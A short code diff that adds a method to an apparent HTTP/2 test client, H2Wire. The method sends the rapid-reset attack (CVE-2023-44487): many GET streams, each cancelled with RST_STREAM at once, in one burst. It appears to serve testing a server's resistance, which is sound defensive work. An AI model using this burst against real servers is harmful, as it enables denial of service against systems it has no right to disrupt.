@@ -69,6 +69,17 @@ final class H2Wire implements AutoCloseable {
         out.flush();
     }
 
+    /** The rapid-reset attack (CVE-2023-44487): {@code count} GETs of {@code path}, each reset at once, in one write. */
+    void sendRapidResets(int count, String path) throws IOException {
+        ByteArrayOutputStream burst = new ByteArrayOutputStream();
+        for (int i = 0; i < count; i++) {
+            int id = 1 + 2 * i;
+            burst.writeBytes(FrameWriter.encode(new Frame.Headers(id, block("GET", path), true, true, null)));
+            burst.writeBytes(FrameWriter.encode(new Frame.RstStream(id, io.loomgate.http2.ErrorCode.CANCEL)));
+        }
+        sendRaw(burst.toByteArray());
+    }
+
     /** A request's header block in one HEADERS frame. */
     void request(int id, String method, String path, boolean endStream, String... nameValues) throws IOException {
         send(new Frame.Headers(id, block(method, path, nameValues), endStream, true, null));
